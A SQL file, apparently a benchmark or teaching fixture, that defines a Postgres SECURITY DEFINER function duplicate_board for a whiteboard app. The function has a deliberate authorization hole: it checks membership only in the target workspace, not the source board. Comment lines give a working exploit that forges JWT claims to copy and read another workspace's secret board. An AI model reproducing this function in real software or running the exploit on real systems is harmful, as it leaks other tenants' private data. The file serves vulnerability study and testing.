-- Any user copies a foreign board into his own workspace, because the function checks only the target's
-- membership.
-- about: duplicate_board, boards, board_elements
-- as: hf_whiteboards_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT duplicate_board('b5000000-0000-4000-8000-000000000001',
-- exploit:   'a0000000-0000-4000-8000-00000000000a');
-- exploit: SELECT title FROM boards;
-- shows: Road-secret plan (copy)
CREATE FUNCTION duplicate_board(p_board uuid, p_target uuid) RETURNS uuid LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
DECLARE copy uuid;
BEGIN
  IF my_role(p_target) IS NULL THEN RAISE EXCEPTION 'not a member'; END IF;
  INSERT INTO boards (workspace_id, title, created_by)
  SELECT p_target, title || ' (copy)', auth.uid() FROM boards WHERE id = p_board
  RETURNING id INTO copy;
  INSERT INTO board_elements (workspace_id, board_id, kind, props)
  SELECT p_target, copy, kind, props FROM board_elements WHERE board_id = p_board;
  RETURN copy;
END $$;
